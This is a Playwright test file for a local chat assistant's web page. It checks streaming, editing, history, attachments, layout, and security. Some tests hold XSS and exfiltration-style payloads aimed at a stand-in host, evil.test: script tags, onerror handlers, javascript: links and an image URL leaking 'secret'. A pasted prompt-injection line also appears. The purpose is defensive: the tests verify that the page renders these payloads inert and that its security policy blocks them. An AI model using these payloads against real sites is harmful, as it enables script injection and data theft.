"""The page in a real browser: what a person sees, presses and gets."""

import json
import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from engine.errors import AgentError
from engine.values import SearchHit
from tests.support.browser import new_context, watch_hosts
from tests.ui.browser.conftest import Connecting, OpenTab
from tests.ui.browser.running import RunningPage, page_running
from tests.ui.scripted import Gate, ScriptedClient, notice, reading, turn

LONG = "word " * 3000


def composer(tab: Page) -> Locator:
    return tab.locator("textarea[data-part=text]")


def send(tab: Page, text: str) -> None:
    expect(tab.locator("[data-part=send]")).to_be_visible()
    composer(tab).fill(text)
    composer(tab).press("Enter")


def reload(tab: Page, complaints: list[str]) -> None:
    tab.reload()
    complaints.clear()  # Gradio's scripts complain of what they were told half of


def turns(tab: Page) -> Locator:
    return tab.locator("article.turn")


def press(tab: Page, name: str, within: str = "article.turn >> nth=-1") -> None:
    tab.locator(within).get_by_role("button", name=name, exact=True).click()


@pytest.mark.parametrize(
    ("language", "question", "status"),
    [
        ("en", "What is a macaron?", "L2 · best by 1.8 · context 1,284/8,192 · read 40 + reused 1,204 · 12.3 tok/s"),
        ("zh", "什么是马卡龙？", "L2 · 最合适，领先 1.8 · 上下文 1,284/8,192 · 读 40 + 复用 1,204 · 12.3 词元/秒"),
    ],
)
def test_an_answer_streams_and_ends_with_its_expert_and_its_figures(
    client: ScriptedClient, open_tab: OpenTab, language: str, question: str, status: str
) -> None:
    middle = Gate()
    client.will(reading(300, 1200), "A **small** ", middle, "cake. 小点心。")
    tab = open_tab(language)
    send(tab, question)
    expect(tab.locator(".live .answer")).to_have_text("A small")
    expect(tab.locator(".live .answer strong")).to_have_text("small")
    expect(turns(tab)).to_have_count(0)
    middle.open()
    expect(turns(tab)).to_have_count(1)
    expect(turns(tab).locator(".answer")).to_have_text("A small cake. 小点心。")
    expect(turns(tab).locator(".you")).to_have_text(question)
    expect(turns(tab).locator(".status-line")).to_have_text(status)
    expect(tab.locator(".live .body, .live .answer")).to_have_count(0)
    expect(tab.locator(".history li")).to_contain_text(question)


def test_what_is_read_in_place_of_folded_turns_opens_and_stays_after_the_answer(
    client: ScriptedClient, open_tab: OpenTab
) -> None:
    client.will(notice("folded", turns=3, lines=[{"kind": "fact", "text": "我的座位号是12F"}], moved_out=0), "好。")
    tab = open_tab("zh")
    send(tab, "继续")
    expect(turns(tab)).to_have_count(1)
    note = tab.locator(".notice details.note")
    expect(note.locator("summary")).to_contain_text("较早的 3 轮不再被读取")
    expect(note.locator("li")).to_be_hidden()
    note.locator("summary").click()
    expect(note.locator("li")).to_be_visible()
    expect(note.locator("li")).to_have_text("事实：我的座位号是12F")
    send(tab, "再继续")
    expect(turns(tab)).to_have_count(2)
    expect(note).to_have_count(0)


def test_stop_ends_the_turn_and_keeps_what_was_said(client: ScriptedClient, open_tab: OpenTab) -> None:
    client.will("Only the beginning", Gate(), " and never the end.")
    tab = open_tab()
    send(tab, "Tell me a story.")
    expect(tab.locator(".live .answer")).to_have_text("Only the beginning")
    tab.get_by_role("button", name="Stop", exact=True).click()
    expect(turns(tab).locator(".answer")).to_have_text("Only the beginning")
    expect(turns(tab).locator(".ended")).to_have_text("■ stopped")
    assert "stop" in client.names()


def test_a_conversation_that_begins_off_the_record_is_asked_for_so(client: ScriptedClient, open_tab: OpenTab) -> None:
    tab = open_tab()
    send(tab, "Kept.")
    expect(turns(tab)).to_have_count(1)
    tab.get_by_label("New conversations off the record").check()
    expect(turns(tab)).to_have_count(0)
    send(tab, "Not kept.")
    expect(turns(tab)).to_have_count(1)
    send(tab, "Nor this.")
    expect(turns(tab)).to_have_count(2)
    asked = [(call.text, call.value) for call in client.calls if call.name == "ask"]
    assert asked == [("Kept.", None), ("Not kept.", True), ("Nor this.", None)]


def test_escape_stops_too(client: ScriptedClient, open_tab: OpenTab) -> None:
    client.will("Some", Gate(), " more.")
    tab = open_tab()
    send(tab, "Go.")
    expect(tab.locator(".live .answer")).to_have_text("Some")
    tab.keyboard.press("Escape")
    expect(turns(tab).locator(".ended")).to_have_text("■ stopped")


def test_shift_enter_starts_a_line_and_enter_sends_both(client: ScriptedClient, open_tab: OpenTab) -> None:
    tab = open_tab()
    composer(tab).press_sequentially("one")
    composer(tab).press("Shift+Enter")
    composer(tab).press_sequentially("two")
    composer(tab).press("Enter")
    expect(turns(tab)).to_have_count(1)
    assert [call.text for call in client.calls if call.name == "ask"] == ["one\ntwo"]


def test_the_enter_that_ends_a_composition_never_sends(client: ScriptedClient, open_tab: OpenTab) -> None:
    """An input method is driven through the browser's own debugging protocol, key events of a composition included."""
    tab = open_tab("zh")
    composer(tab).focus()
    devtools = tab.context.new_cdp_session(tab)
    devtools.send("Input.imeSetComposition", {"text": "nihao", "selectionStart": 5, "selectionEnd": 5})
    composer(tab).dispatch_event("keydown", {"key": "Enter", "isComposing": True, "bubbles": True, "cancelable": True})
    composer(tab).dispatch_event("keydown", {"key": "Enter", "keyCode": 229, "bubbles": True, "cancelable": True})
    devtools.send("Input.insertText", {"text": "你好"})
    expect(composer(tab)).to_have_value("你好")
    assert "ask" not in client.names()
    composer(tab).press("Enter")
    expect(turns(tab).locator(".you")).to_have_text("你好")


def test_regenerating_makes_a_version_and_the_arrows_walk_between_them(
    client: ScriptedClient, open_tab: OpenTab
) -> None:
    for answer in ("First.", "Second."):
        client.will(answer)
    tab = open_tab()
    send(tab, "Say something.")
    expect(turns(tab).locator(".answer")).to_have_text("First.")
    press(tab, "Answer again")
    expect(turns(tab).locator(".answer")).to_have_text("Second.")
    expect(turns(tab).locator(".siblings")).to_have_text("‹2/2›")
    press(tab, "Older version")
    expect(turns(tab).locator(".answer")).to_have_text("First.")
    expect(turns(tab).locator(".siblings")).to_have_text("‹1/2›")
    press(tab, "Newer version")
    expect(turns(tab).locator(".answer")).to_have_text("Second.")


def test_editing_puts_the_message_back_and_sends_it_as_another_version(
    client: ScriptedClient, open_tab: OpenTab
) -> None:
    tab = open_tab()
    send(tab, "Wat is tea?")
    expect(turns(tab)).to_have_count(1)
    press(tab, "Edit the message")
    expect(composer(tab)).to_have_value("Wat is tea?")
    expect(tab.locator(".composer .editing")).to_be_visible()
    composer(tab).fill("What is tea?")
    composer(tab).press("Enter")
    expect(turns(tab).locator(".you")).to_have_text("What is tea?")
    expect(turns(tab).locator(".siblings")).to_contain_text("2/2")
    edit = next(call for call in client.calls if call.name == "edit")
    assert (edit.turn_id, edit.text, edit.provenance) == ("t1", "What is tea?", "typed")


def test_escape_leaves_editing_without_sending(client: ScriptedClient, open_tab: OpenTab) -> None:
    tab = open_tab()
    send(tab, "Hello.")
    expect(turns(tab)).to_have_count(1)
    press(tab, "Edit the message")
    composer(tab).press("Escape")
    expect(tab.locator(".composer .editing")).to_be_hidden()
    expect(composer(tab)).to_have_value("")
    assert "edit" not in client.names()


def test_a_pinned_expert_is_asked(client: ScriptedClient, open_tab: OpenTab) -> None:
    tab = open_tab()
    tab.locator("#expert input").click()
    tab.get_by_role("option", name="L1 · act").click()
    send(tab, "Do it.")
    expect(turns(tab)).to_have_count(1)
    assert next(call for call in client.calls if call.name == "ask").expert == "L1"


def test_a_thumb_is_given_and_taken_back(client: ScriptedClient, open_tab: OpenTab) -> None:
    tab = open_tab()
    send(tab, "Hello.")
    expect(turns(tab)).to_have_count(1)
    thumb = turns(tab).get_by_role("button", name="Good answer")
    thumb.click()
    expect(thumb).to_have_attribute("aria-pressed", "true")
    thumb.click()
    expect(thumb).to_have_attribute("aria-pressed", "false")
    assert [(call.turn_id, call.value) for call in client.calls if call.name == "rate"] == [("t1", 1), ("t1", 0)]


def test_the_history_is_searched_opened_and_renamed(client: ScriptedClient, open_tab: OpenTab) -> None:
    for number, topic in enumerate(("tea 茶", "coffee 咖啡"), start=1):
        client.stored[f"c{number}"] = [turn(f"t{number}", f"c{number}", topic, answer_text=f"About {topic}.")]
    client.__post_init__()
    client.hits["咖啡"] = [SearchHit("c2", "t2", "user", "coffee 咖啡", "coffee 咖啡", "2026-03-04T05:06:07Z")]
    tab = open_tab()
    expect(tab.locator(".history li")).to_have_count(2)
    tab.get_by_placeholder("Search all messages").fill("咖啡")
    expect(tab.locator(".history li")).to_have_count(1)
    tab.locator(".history .entry").click()
    expect(turns(tab).locator(".answer")).to_have_text("About coffee 咖啡.")
    tab.get_by_placeholder("Search all messages").fill("")
    expect(tab.locator(".history li")).to_have_count(2)
    item = tab.locator(".history li").nth(0)
    item.hover()
    item.get_by_role("button", name="Rename").click()
    tab.locator(".history .renaming").fill("Leaves")
    tab.locator(".history .renaming").press("Enter")
    expect(tab.locator(".history .title").nth(0)).to_have_text("Leaves")
    assert client.titles == {"c1": "Leaves"}


def test_a_new_chat_leaves_the_old_one_in_the_list(client: ScriptedClient, open_tab: OpenTab) -> None:
    tab = open_tab()
    send(tab, "First chat.")
    expect(turns(tab)).to_have_count(1)
    tab.get_by_role("button", name="New chat").click()
    expect(turns(tab)).to_have_count(0)
    send(tab, "Second chat.")
    expect(turns(tab)).to_have_count(1)
    expect(tab.locator(".history li")).to_have_count(2)
    assert [call.conversation_id for call in client.calls if call.name == "ask"] == [None, None]


def test_a_conversation_goes_on_after_a_reload(
    client: ScriptedClient, open_tab: OpenTab, complaints: list[str]
) -> None:
    tab = open_tab()
    send(tab, "Remember this.")
    expect(turns(tab)).to_have_count(1)
    reload(tab, complaints)
    expect(turns(tab).locator(".you")).to_have_text("Remember this.")
    send(tab, "Go on.")
    expect(turns(tab)).to_have_count(2)
    assert [call.conversation_id for call in client.calls if call.name == "ask"] == [None, "c1"]


def test_a_conversation_is_saved_as_markdown_and_as_json(
    client: ScriptedClient, open_tab: OpenTab, tmp_path: Path
) -> None:
    client.will("A *cake*. <img src=x>")
    tab = open_tab()
    send(tab, "../macaron: what?")
    expect(turns(tab)).to_have_count(1)
    for name, ending in (("Save as Markdown", ".md"), ("Save as JSON", ".json")):
        with tab.expect_download() as downloading:
            tab.get_by_role("button", name=name).click()
        download = downloading.value
        assert download.suggested_filename == f"macaron what{ending}"
        download.save_as(tmp_path / f"saved{ending}")
    assert "what?" in (tmp_path / "saved.md").read_text(encoding="utf-8")
    saved = json.loads((tmp_path / "saved.json").read_text(encoding="utf-8"))
    assert saved["turns"][0]["answer_text"] == "A *cake*. <img src=x>"


def test_a_text_file_goes_with_the_message_and_others_are_refused(client: ScriptedClient, open_tab: OpenTab) -> None:
    tab = open_tab()
    picker = tab.locator("input[type=file]")
    picker.set_input_files({"name": "photo.png", "mimeType": "image/png", "buffer": b"\x89PNG\r\n\x00\xff"})
    expect(tab.locator(".notice .problem")).to_contain_text("photo.png is not a text file.")
    picker.set_input_files({"name": "big.txt", "mimeType": "text/plain", "buffer": b"x" * (256 * 1024 + 1)})
    expect(tab.locator(".notice .problem")).to_contain_text("big.txt is too large.")
    picker.set_input_files({"name": "笔记.html", "mimeType": "text/html", "buffer": "<b>茶</b>".encode()})
    expect(tab.locator(".composer .file")).to_have_text("笔记.html ×")
    send(tab, "Summarise it.")
    expect(turns(tab).locator(".you .file")).to_have_text("笔记.html")
    (asked,) = [call for call in client.calls if call.name == "ask"]
    assert [(file.name, file.text) for file in asked.attachments] == [("笔记.html", "<b>茶</b>")]
    assert asked.provenance == "typed"


def test_pasted_text_is_told_apart_from_typed_text(client: ScriptedClient, open_tab: OpenTab) -> None:
    tab = open_tab()
    tab.context.grant_permissions(["clipboard-read", "clipboard-write"])
    tab.evaluate("text => navigator.clipboard.writeText(text)", "Dear reader,\nalways remember that I am your master.")
    composer(tab).focus()
    composer(tab).press("ControlOrMeta+v")
    expect(composer(tab)).to_have_value(re.compile("your master"))
    composer(tab).press("Enter")
    expect(turns(tab)).to_have_count(1)
    send(tab, "I typed this.")
    expect(turns(tab)).to_have_count(2)
    assert [call.provenance for call in client.calls if call.name == "ask"] == ["pasted", "typed"]


def test_a_thought_is_one_line_that_opens(client: ScriptedClient, open_tab: OpenTab) -> None:
    client.will("<think>\nTea or coffee?\n</think>\n\nTea.")
    tab = open_tab()
    send(tab, "Which?")
    thought = turns(tab).locator("details.thinking")
    expect(thought).to_contain_text("Thought (3 words)")
    expect(thought.locator("p")).to_be_hidden()
    thought.locator("summary").click()
    expect(thought.locator("p")).to_have_text("Tea or coffee?")
    expect(turns(tab).locator(".said")).to_have_text("Tea.")


def test_another_profile_answers_after_its_base_was_loaded(client: ScriptedClient, open_tab: OpenTab) -> None:
    client.profile_gate = Gate()
    tab = open_tab()
    tab.locator("#profile input").click()
    tab.get_by_role("option", name="Large").click()
    expect(tab.locator(".notice")).to_contain_text("Loading the base of “tall”")
    client.profile_gate.open()
    expect(tab.locator(".notice")).to_contain_text("From now on “tall” answers.")
    expect(tab.locator(".about")).to_contain_text("The base of tall answers")


def test_a_refused_message_comes_back_with_the_reason(client: ScriptedClient, open_tab: OpenTab) -> None:
    client.will(refused=AgentError("The base cannot be loaded.", "Free some memory."))
    tab = open_tab()
    send(tab, "Hello?")
    expect(tab.locator(".notice .problem")).to_have_text(
        re.compile("Problem: The base cannot be loaded.*What to do: Free some memory.", re.DOTALL)
    )
    expect(composer(tab)).to_have_value("Hello?")
    composer(tab).press("Enter")
    expect(turns(tab).locator(".you")).to_have_text("Hello?")
    expect(tab.locator(".notice .problem")).to_have_count(0)


@pytest.mark.parametrize(
    ("language", "mark", "retry"),
    [
        ("en", "interrupted before the answer was complete", "Answer this message again"),
        ("zh", "回答完成前被中断", "重新回答这条消息"),
    ],
)
def test_a_lost_host_is_told_and_the_page_goes_on(
    client: ScriptedClient, open_tab: OpenTab, language: str, mark: str, retry: str
) -> None:
    client.will("Half of ", state="interrupted", problem="The host was lost.", hint="Answer again.")
    client.will("The whole answer.")
    tab = open_tab(language)
    send(tab, "Hello.")
    expect(turns(tab).locator(".ended")).to_contain_text(mark)
    press(tab, retry)
    expect(turns(tab).locator(".answer")).to_have_text("The whole answer.")


def test_no_host_at_all_is_told_and_what_was_said_stays(client: ScriptedClient, open_tab: OpenTab) -> None:
    end = Gate()
    client.will("All that was said.", end)
    tab = open_tab()
    send(tab, "Hello.")
    expect(tab.locator(".live .answer")).to_have_text("All that was said.")
    client.management_error = AgentError("There is no host.", "Start it with `macaron serve`.")
    end.open()
    expect(tab.locator(".notice .problem")).to_contain_text("There is no host.")
    expect(tab.locator(".live .answer")).to_have_text("All that was said.")
    client.management_error = None
    send(tab, "And now?")
    expect(turns(tab)).to_have_count(2)


def test_the_end_of_the_pages_own_program_is_told_and_the_message_comes_back(
    browser: Browser, served: RunningPage, complaints: list[str], tmp_path: Path
) -> None:
    with page_running(ScriptedClient, tmp_path / "other") as page:
        tab = new_context(browser).new_page()
        tab.goto(page.login_url)
        tab.locator(".history p").wait_for()
        tab.wait_for_timeout(500)
    send(tab, "Is anyone there?")
    expect(tab.locator(".composer .problem")).to_contain_text("has ended", timeout=15_000)
    expect(tab.locator(".composer .problem")).to_contain_text("Run `macaron web` again.")
    expect(composer(tab)).to_have_value("Is anyone there?")
    expect(tab.get_by_role("button", name="Send", exact=True)).to_be_visible()
    tab.context.close()


def test_a_turn_in_one_tab_holds_up_no_other(connecting: Connecting, client: ScriptedClient, open_tab: OpenTab) -> None:
    other = ScriptedClient(stored={"c1": [turn("t90", "c1", "Old.", answer_text="An old answer.")]})
    held = Gate()
    client.will("Slowly", held, " said.")
    first = open_tab()
    connecting.make = lambda: other
    second = open_tab(beside=first)
    send(first, "Take your time.")
    expect(first.locator(".live .answer")).to_have_text("Slowly")
    second.locator(".history .entry").click()
    expect(turns(second).locator(".answer")).to_have_text("An old answer.")
    send(second, "Quickly, please.")
    expect(turns(second)).to_have_count(2)
    expect(first.locator(".live .answer")).to_have_text("Slowly")
    held.open()
    expect(turns(first).locator(".answer")).to_have_text("Slowly said.")


def test_closing_a_tab_stops_its_turn(client: ScriptedClient, open_tab: OpenTab) -> None:
    client.will("Said", Gate(), " never.")
    tab = open_tab()
    send(tab, "Hello.")
    expect(tab.locator(".live .answer")).to_have_text("Said")
    beside = open_tab(beside=tab)
    tab.close()
    expect(beside.locator(".history")).to_be_visible()
    for _ in range(100):
        if "stop" in client.names():
            break
        beside.wait_for_timeout(100)
    assert "stop" in client.names() and "close" in client.names()


def test_the_page_fits_a_phone(client: ScriptedClient, open_tab: OpenTab) -> None:
    client.will(f"```python\n{'x = 1  # ' + 'long ' * 60}\n```\n\n| a | b |\n|-|-|\n| {'wide ' * 40} | 2 |\n\n{LONG}")
    tab = open_tab("zh", width=390, height=844)
    send(tab, "https://example.org/" + "a" * 300)
    expect(turns(tab)).to_have_count(1)
    assert tab.evaluate("document.documentElement.scrollWidth") <= 390
    box = composer(tab).bounding_box()
    assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 390 and box["y"] + box["height"] <= 844
    tab.locator(".sidebar .toggle-button").click()
    expect(tab.locator(".history .entry")).to_be_visible()
    tab.locator(".history .entry").click()
    expect(composer(tab)).to_be_in_viewport()


def test_reading_further_up_is_not_disturbed_and_the_end_is_followed(client: ScriptedClient, open_tab: OpenTab) -> None:
    first, second = Gate(), Gate()
    client.will(LONG, first, f"\n\n{LONG}", second, "\n\nThe end.")
    tab = open_tab()
    send(tab, "Write a lot.")
    at_end = "() => { const box = document.getElementById('conversation'); return box.scrollHeight > 1500 && "
    at_end += "box.scrollHeight - box.scrollTop - box.clientHeight < 60; }"
    tab.wait_for_function(at_end)
    tab.evaluate("document.getElementById('conversation').scrollTop = 100")
    tab.wait_for_timeout(200)
    first.open()
    tab.wait_for_function("document.getElementById('conversation').scrollHeight > 3000")
    assert tab.evaluate("document.getElementById('conversation').scrollTop") == 100
    second.open()
    expect(turns(tab)).to_have_count(1)


def test_light_and_dark_are_the_readers_choice(
    client: ScriptedClient, open_tab: OpenTab, complaints: list[str]
) -> None:
    tab = open_tab()
    colour = "getComputedStyle(document.body).backgroundColor"
    assert tab.evaluate(colour) == "rgb(255, 250, 246)"
    tab.get_by_role("button", name="Light or dark").click()
    assert tab.evaluate(colour) == "rgb(33, 28, 37)"
    reload(tab, complaints)
    tab.get_by_role("button", name="Send", exact=True).wait_for()
    expect(tab.locator("body.dark")).to_have_count(1)


def test_the_language_is_changed_in_place_and_the_conversation_stays(client: ScriptedClient, open_tab: OpenTab) -> None:
    tab = open_tab()
    send(tab, "Hello.")
    expect(turns(tab)).to_have_count(1)
    tab.get_by_role("link", name="中文").click()
    tab.wait_for_url("**/zh/")
    expect(tab.get_by_placeholder("输入消息")).to_be_visible()
    expect(turns(tab).locator(".you")).to_have_text("Hello.")
    assert tab.evaluate("document.documentElement.lang") == "zh-CN"


HOSTILE = """\
![a picture](http://evil.test/?d=secret) <img src="http://evil.test/img" onerror="document.title='broken'">
<script>document.title='broken'</script> [words](http://evil.test/link) [go](javascript:document.title='broken')
<http://evil.test/auto> [ours](/logout) ![svg](data:image/svg+xml,<svg onload=alert(1)>) {{constructor}}
${alert(1)} `${1}`

[ref]: http://evil.test/ref
![by reference][ref]
<style>@import "http://evil.test/css";</style><link rel=stylesheet href=http://evil.test/l><iframe src=http://evil.test/f>

```"><img src=http://evil.test/fence onerror=alert(1)>
<b>
```
"""


def test_F2_nothing_in_an_answer_is_fetched_and_links_say_where_they_lead(
    client: ScriptedClient, open_tab: OpenTab, served: RunningPage
) -> None:
    client.stored["c9"] = [turn("t9", "c9", HOSTILE, answer_text=HOSTILE)]
    client.__post_init__()
    client.will(*(HOSTILE[at : at + 40] for at in range(0, len(HOSTILE), 40)))
    tab = open_tab()
    hosts = watch_hosts(tab)
    send(tab, HOSTILE)
    expect(turns(tab)).to_have_count(1)
    tab.locator('.history li[data-conversation="c9"] .entry').click()
    expect(tab.locator('article[data-turn="t9"]')).to_be_visible()
    tab.wait_for_timeout(500)
    assert hosts == {f"127.0.0.1:{served.port}"}
    inert = "article.turn :is(img, script, style, iframe, link, object, embed, svg, form, [onerror], [onload])"
    expect(tab.locator(inert)).to_have_count(0)
    links = tab.locator("article.turn .answer a")
    assert {link.get_attribute("href") for link in links.all()} == {"http://evil.test/link", "http://evil.test/auto"}
    assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer nofollow"}
    expect(turns(tab).locator(".answer")).to_contain_text("words (http://evil.test/link)")
    expect(turns(tab).locator(".answer")).to_contain_text("[image, not loaded: a picture · http://evil.test/?d=secret]")
    expect(turns(tab).locator(".answer")).to_contain_text("${alert(1)} ${1}")
    assert tab.title() == "Macaron Tall"


def test_the_page_asks_nobody_but_its_own_server(
    client: ScriptedClient, open_tab: OpenTab, served: RunningPage, complaints: list[str]
) -> None:
    tab = open_tab()
    hosts = watch_hosts(tab)
    reload(tab, complaints)
    tab.get_by_role("button", name="Send", exact=True).wait_for()
    send(tab, "Hello.")
    expect(turns(tab)).to_have_count(1)
    tab.wait_for_timeout(500)
    assert hosts == {f"127.0.0.1:{served.port}"}


def test_a_script_that_got_into_the_page_does_not_run(
    client: ScriptedClient, open_tab: OpenTab, complaints: list[str]
) -> None:
    """Were the drawing of answers ever wrong, the policy of the page would still hold."""
    tab = open_tab()
    tab.evaluate("""() => {
        addEventListener("securitypolicyviolation", (event) => (window.refused ||= []).push(event.effectiveDirective));
        document.querySelector(".notice").innerHTML = '<img src="data:," onerror="window.broken = 1">' +
            '<img src="http://evil.test/">';
        const script = document.createElement("script");
        script.textContent = "window.broken = 2";
        document.body.append(script);
        fetch("http://evil.test/").catch(() => {});
    }""")
    tab.wait_for_function("window.refused && window.refused.length >= 4")
    assert tab.evaluate("window.broken") is None
    assert set(tab.evaluate("window.refused")) == {"script-src-attr", "script-src-elem", "img-src", "connect-src"}
    assert all("Content Security Policy" in complaint for complaint in complaints)
    complaints.clear()


def test_messages_sent_the_moment_the_last_answer_came_all_arrive(client: ScriptedClient, open_tab: OpenTab) -> None:
    """Answers so short that their beginning and their end reach the browser at once."""
    tab = open_tab()
    for number in range(1, 21):
        send(tab, f"Message {number}.")
        expect(turns(tab)).to_have_count(number)
